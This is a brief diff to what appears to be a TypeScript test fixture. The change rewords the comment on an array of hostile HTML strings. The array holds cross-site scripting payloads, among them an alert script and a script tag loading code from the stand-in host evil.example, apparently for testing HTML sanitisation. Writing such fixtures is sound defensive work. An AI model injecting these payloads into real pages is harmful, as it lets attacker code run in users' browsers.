@@ -1,4 +1,4 @@
-/** For tests: HTML that runs a script, or leaves its place, wherever it is shown as it stands. */
+/** For tests: HTML that runs a script, or escapes its container, if it is shown unchanged. */
 export const hostileHtml: readonly string[] = [
   '<script>alert(1)</script>x',
   '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>x',
